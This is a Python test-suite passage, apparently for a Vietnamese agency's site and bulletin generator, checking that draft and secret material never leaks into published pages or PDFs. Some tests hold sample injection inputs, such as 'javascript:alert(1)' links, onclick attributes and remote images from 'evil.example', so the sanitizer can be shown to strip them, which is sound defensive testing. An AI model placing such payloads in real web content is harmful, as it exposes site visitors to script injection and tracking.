        project.write("content/tin-tuc/2026/anh/a.png", png("a"))
        project.write("content/tin-tuc/2026/a.md", article("Bài in", date="2026-06-01",
                                                          image="anh/a.png", image_alt='"Ảnh"'))
        project.write("content/van-ban/tep/mat.docx", docx("MAT"))
        project.write("content/van-ban/mat.md", document("9-CT/TU", classification="secret",
                                                         attachment="tep/mat.docx"))
        project.write("bulletins/2026/so-01.md",
                      issue(1, [("Hoạt động", ["content/tin-tuc/2026/a.md"])]))
        corpus = load(project)
        assert corpus.collector.errors == []
        item = next(i for i in corpus.items if i.kind == "bulletin")
        face = Face("Noto Serif", "400", "normal", project.root / "fonts" / "x.ttf")
        allowed = {Path(p) for p in render._readable(corpus, item, [face],
                                                     project.root / "cmyk.icc")}
        root = project.root
        assert root / "content/tin-tuc/2026/anh/a.png" in allowed
        assert root / "bulletins/2026/anh/bia.jpg" in allowed
        assert not any(p in allowed for p in (root / "content", root / "content/van-ban",
                                              root / "content/van-ban/tep/mat.docx"))

    def test_a_path_the_checks_miss_fails_the_issue_instead_of_printing(self, tmp_path,
                                                                        bulletin_cache):
        """``\\`<img src=…>\\``: the escaped backticks make the scanner see code where Markdown
        sees HTML. The draft-only image is not on the allow-list: the issue fails."""
        project = Project(tmp_path / "project")
        use_bulletin_cache(project, bulletin_cache)
        cover(project)
        project.write("content/tin-tuc/2026/anh/bi-mat.png", png("CANARYBYPASSIMAGE", (200, 150)))
        project.write("content/tin-tuc/2026/nhap.md", article(
            "Nháp", status="draft", image="anh/bi-mat.png", image_alt='"Ảnh nháp"'))
        project.write("content/tin-tuc/2026/a.md", article("Bài in", date="2026-06-01")
                      + '\n\\`<img src="anh/bi-mat.png" alt="a">\\`\n')
        project.write("bulletins/2026/so-01.md",
                      issue(1, [("Hoạt động", ["content/tin-tuc/2026/a.md"])]))
        code, err = build(project)
        assert code == 1 and "bulletins" in err and "Traceback" not in err
        assert not (project.root / "site").exists()
        assert not (project.root / "build" / "in-an").exists()

    def test_footnote_paragraphs_stay_text_in_print(self):
        import lxml.html

        from danvan.bulletin.render import Adapter

        html = ('<p>Câu.<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup></p>'
                '<div class="footnote"><ol><li id="fn:1"><p>Một.</p><p>&lt;a rel="attachment" '
                'href="danvan:content/x.docx"&gt;t&lt;/a&gt;</p></li></ol></div>')
        tree = lxml.html.fragment_fromstring(html, create_parent="div")
        Adapter._footnotes(tree)
        assert not tree.xpath("//a[@rel]") and '<a rel="attachment"' in tree.text_content()

    @pytest.mark.parametrize("goals", [
        "[Bấm](javascript:alert(1))",
        "![t](https://evil.example/t.gif)",
        "[Nháp](../../tin-tuc/nhap/)",
        "![x](../nhap/anh-1.jpg)",
    ], ids=["javascript", "remote-image", "draft-address", "other-bundle-photo"])
    def test_model_fields_are_scanned_like_a_body(self, project, goals):
        project.write("content/tin-tuc/nhap.md", article("Nháp", status="draft"))
        add_model(project, "m", goals=f"'{goals}'")
        add_model(project, "nhap", status="draft")
        found = [p for p in errors(project) if p.path == "models_gallery/m/index.md"]
        assert found, listing(errors(project))

    def test_images_from_other_sites_are_refused_and_never_loaded(self, project):
        from danvan.sanitize import clean

        assert "evil.example" not in clean('<p><img src="https://evil.example/t.gif" alt="t"></p>')
        assert 'href="https://example.com/"' in clean('<a href="https://example.com/">x</a>')
        project.write("content/tin-tuc/a.md", article("A") + "\n![t](https://evil.example/t.gif)"
                      '\n\n<img src="http://evil.example/u.gif" alt="u">\n')
        found = [p for p in errors(project) if "trang khác" in p.message]
        assert [p.line for p in found] == [11, 13], listing(errors(project))

    def test_model_fields_are_sanitized_on_the_page(self):
        from danvan.site.gallery import prose

        import lxml.html

        html = str(prose("[Bấm](javascript:alert(1)) <b onclick=x>đậm</b>"))
        tree = lxml.html.fragment_fromstring(html, create_parent="div")
        assert "javascript:" not in html and "&lt;b onclick" in html  # the tag shown as text
        assert not tree.xpath("//*[@onclick or @href]") and not tree.xpath("//b")

    def test_reserved_element_ids_are_refused_and_removed(self, project):
        from danvan.sanitize import clean

        assert 'id="__config"' not in clean('<div id="__config">{}</div>')
        assert 'id="registry"' not in clean('<div id="registry"></div>')
        assert 'id="muc-1"' in clean('<h2 id="muc-1">Mục</h2>')
        project.write("content/tin-tuc/a.md", article("A") + '\n<div id="__config">{}</div>\n')
        find(errors(project), exact_path="content/tin-tuc/a.md", words=("__config",))

    def test_an_unpublished_item_never_takes_a_published_ones_url(self, project):
        project.write("content/tin-tuc/2017/hoi-nghi.md", article("Nháp", status="draft"))
        project.write("content/tin-tuc/2018/hoi-nghi.md", article("Công khai"))
        project.write("content/van-ban/mat.md", document("09-CT/TU", title='"Mật"',
                                                         classification="secret"))
        project.write("content/van-ban/cong-khai.md", document("09-CT/TU", title='"Công bố"',
                                                               date="2016-09-01"))
        urls = {i.title: i.url for i in load(project).items}
        assert urls["Công khai"] == "tin-tuc/hoi-nghi/"
        assert urls["Công bố"] == "van-ban/09-ct-tu-2016/"  # nothing betrays the secret one

    @pytest.mark.parametrize("href", ["../nh%61p/", "../NHAP/"])
    def test_encoded_or_capitalised_address_of_a_draft_is_an_error(self, project, href):
        project.write("content/tin-tuc/nhap.md", article("Nháp", status="draft"))
        project.write("content/tin-tuc/a.md", article("A") + f"\n[Xem]({href})\n")
        find(errors(project), exact_path="content/tin-tuc/a.md", words=("tin-tuc/nhap.md",))

    def test_percent_encoded_attachment_builds(self, project):
        project.write("content/van-ban/tep/a b.pdf", pdf("ab"))
        project.write("content/van-ban/a.md", document("1-CT/TU", attachment='"tep/a%20b.pdf"'))
        code, err = build(project)
        assert code == 0, err
        assert (project.root / "site/van-ban/tep/a b.pdf").is_file()

    def test_a_number_too_long_for_python_is_a_vietnamese_error(self, project):
        path = project.root / "content/_du-lieu/co-quan.yml"
        path.write_text(path.read_text("utf-8") + "so_lon: " + "9" * 5000 + "\n", "utf-8")
        find(errors(project), exact_path="content/_du-lieu/co-quan.yml", words=("số quá dài",))

    def test_an_issue_number_beyond_any_year_is_an_error(self, project):
        cover(project)
        project.write("content/tin-tuc/2026/a.md", article("A", date="2026-06-01"))
        project.write("bulletins/2026/so-01.md", issue(
            10 ** 30, [("Hoạt động", ["content/tin-tuc/2026/a.md"])]))
        find(errors(project), exact_path="bulletins/2026/so-01.md", field="number")

    def test_og_image_url_is_percent_encoded(self, project):
        project.write("content/tin-tuc/anh/Ảnh Đẹp.png", png("d"))
        project.write("content/tin-tuc/a.md", article("A", image='"anh/Ảnh Đẹp.png"',
                                                      image_alt='"Ảnh"'))
        code, err = build(project)
        assert code == 0, err
        html = (project.root / "site/tin-tuc/a/index.html").read_text("utf-8")
        url = re.search(r'property="og:image" content="([^"]+)"', html).group(1)
        # A rendition named from the photo's name as ASCII: nothing left to encode.
        assert re.fullmatch(r"https?://[!-~]+/tin-tuc/a/anh-dep-trang-\d+\.[0-9a-f]{10}\.jpg", url), url
        assert (project.root / "site" / url.split("/", 3)[3]).is_file()


def test_files_a_draft_names_in_raw_html_or_reference_links_never_leave(project):
    """The first report: a draft's <img src>, <a href> (any quoting) and reference-style
    links used to publish their files. Nothing a draft names is on the allow-list."""
    project.write("content/tin-tuc/anh/ten-canaryrawimg.png", png("CANARYRAWIMGBYTES"))
    project.write("content/tin-tuc/tep/canaryhref.pdf", pdf("CANARYHREFBYTES"))
    project.write("content/tin-tuc/tep/canaryrefdef.pdf", pdf("CANARYREFDEFBYTES"))
    project.write("content/tin-tuc/nhap.md", article("Nháp", status="draft") + (
        '\n<img src="anh/ten-canaryrawimg.png" alt="x">\n\n'
        "<a href='tep/canaryhref.pdf'>tệp</a>\n\n[Tệp][r]\n\n[r]: tep/canaryrefdef.pdf\n"))
    project.write("content/tin-tuc/a.md", article("Công khai"))
    code, err = build(project)
    assert code == 0, err
    blob = output_blob(project.root / "site")
    assert "Công khai".encode() in blob
    for canary in (b"CANARYRAWIMG", b"canaryrawimg", b"CANARYHREF", b"canaryhref",
                   b"CANARYREFDEF", b"canaryrefdef"):
        assert canary not in blob, canary


def test_an_address_of_a_draft_the_checks_miss_is_never_rendered(project):
    """The scanner's blind spots (escaped backticks) and the site's own absolute address are
    not errors, but the rendered page keeps only the words: nothing of the draft's slug."""
    project.write("content/tin-tuc/canaryhiddenslug.md", article("Nháp", status="draft"))
    project.write("content/tin-tuc/a.md", article("Công khai") + (
        '\n\\`<a href="../canaryhiddenslug/">xem một</a>\\`\n\n'
        "[xem hai](https://danvan.hungyen.example/tin-tuc/canaryhiddenslug/)\n"))
    code, err = build(project)
    assert code == 0, err
    page = (project.root / "site/tin-tuc/a/index.html").read_text("utf-8")
    assert "xem một" in page and "xem hai" in page
    assert b"canaryhiddenslug" not in output_blob(project.root / "site")


# --- What a third review found ----------------------------------------------------------------


SITE = "https://danvan.hungyen.example"
OWN_ADDRESS_FORMS = [
    f"{SITE}/tin-tuc/canaryslugthree/", f"{SITE.replace('https', 'http')}/tin-tuc/canaryslugthree/",
    f"{SITE.upper()}/tin-tuc/canaryslugthree/", f"{SITE}:443/tin-tuc/canaryslugthree/",
    f"{SITE}//tin-tuc/canaryslugthree/", f"{SITE}/tin-tuc/canaryslugthree/index.html",
    f"{SITE}/tin-tuc/canaryslugthre%65/",
]


class TestThirdReview:
    def test_no_form_of_a_drafts_address_survives_on_a_page(self, project):
        project.write("content/tin-tuc/canaryslugthree.md", article("Nháp", status="draft"))
        links = "\n\n".join(f"[hình thức {n}]({url})" for n, url in enumerate(OWN_ADDRESS_FORMS))
        project.write("content/tin-tuc/a.md", article("Công khai") + "\n" + links + (
            '\n\n<a href="../canaryslugthr&#10;ee/">dòng mới</a>\n\n'
            '\\`<a href="../canaryslugthree/index.html">mã</a>\\`\n'))
        add_model(project, "m", goals=f"'[địa chỉ riêng]({SITE}/tin-tuc/canaryslugthree/)'")
        code, err = build(project)
        assert code == 0, err
        page = (project.root / "site/tin-tuc/a/index.html").read_text("utf-8")
        assert "hình thức 6" in page and "dòng mới" in page
        blob = output_blob(project.root / "site")
        assert b"canaryslugthree" not in blob.lower() and b"canaryslugthre%65" not in blob

    def test_a_drafts_files_are_not_named_on_a_page_even_through_the_blind_spot(self, project):
        add_model(project, "canarydraftmodel", status="draft")
        project.write("content/tin-tuc/tep/canarydraftfile.docx", b"x")
        project.write("content/tin-tuc/a.md", article("Công khai") + (
            '\n\\`<img src="../../mo-hinh/canarydraftmodel/anh-1.jpg" alt="a">\\`\n\n'
            '\\`<a href="tep/canarydraftfile.docx">tệp</a>\\`\n'))
        code, err = build(project)
        assert code == 0, err
        blob = output_blob(project.root / "site")
        assert b"canarydraftmodel" not in blob and b"canarydraftfile" not in blob

    def test_printed_links_point_only_to_what_is_public(self, tmp_path, bulletin_cache):
        project = Project(tmp_path / "project")
        use_bulletin_cache(project, bulletin_cache)
        cover(project)
        project.write("content/tin-tuc/2026/canaryslugpdf.md", article("Nháp", status="draft"))
        project.write("content/tin-tuc/2026/tep/canarypdffile.docx", b"x")
        project.write("content/tin-tuc/2026/a.md", article("Bài in", date="2026-06-01") + (
            f"\n[riêng]({SITE}/tin-tuc/canaryslugpdf/) và [ngoài](https://example.com/x)\n\n"
            '\\`<a href="tep/canarypdffile.docx">tệp</a>\\`\n'))
        project.write("bulletins/2026/so-01.md", issue(
            1, [("Hoạt động", ["content/tin-tuc/2026/a.md"])],
            body=f"Lời tòa soạn, [xem]({SITE}/tin-tuc/canaryslugpdf/).\n"))
        code, err = build(project)
        assert code == 0, err
        pdfs = list((project.root / "site").rglob("*.pdf")) + list(
            (project.root / "build/in-an").rglob("*.pdf"))
        assert len(pdfs) == 3
        blob = b"\n".join(b"\n".join(pdf_texts(p)) for p in pdfs)
        assert b"https://example.com/x" in blob  # the scan sees link addresses
        assert b"canaryslugpdf" not in blob and b"canarypdffile" not in blob

    @pytest.mark.parametrize("body", ["<a " * 20000, "{a" * 40000, "<!--" * 60000],
                             ids=["open-tags", "braces", "comments"])
    def test_a_pathological_body_is_checked_in_linear_time(self, project, body):
        import time

        project.write("content/tin-tuc/a.md", article("A") + body)
        started = time.perf_counter()
        load(project)
        assert time.perf_counter() - started < 5

    def test_a_cycle_of_successors_is_a_vietnamese_error(self, project):
        path = project.root / "content/_du-lieu/dia-ban.yml"
        path.write_text(path.read_text("utf-8") + (
            "- {id: vong-a, name: Vòng A, level: xa, successors: [vong-b]}\n"
            "- {id: vong-b, name: Vòng B, level: xa, successors: [vong-a]}\n"), "utf-8")
        project.write("content/tin-tuc/a.md", article("A", localities="[xã Vòng A]"))
        find(errors(project), exact_path="content/_du-lieu/dia-ban.yml",
             words=("vong-a", "chính nó"))

    def test_localities_written_as_a_mapping_are_an_error(self, project):
        (project.root / "content/_du-lieu/dia-ban.yml").write_text(
            "hung-yen: {name: Hưng Yên}\n", "utf-8")
        find(errors(project), exact_path="content/_du-lieu/dia-ban.yml", words=("danh sách",))

    def test_a_link_to_a_markdown_file_that_is_no_page_is_an_error(self, project):
        project.write("content/tin-tuc/_nhap/x.md", article("Nháp ẩn"))
        project.write("content/tin-tuc/a.md", article("A") + "\n[a](khong-co.md) [b](_nhap/x.md)\n")
        found = [p for p in errors(project) if p.path == "content/tin-tuc/a.md"]
        assert {p.line for p in found} == {11} and len(found) == 2, listing(found)
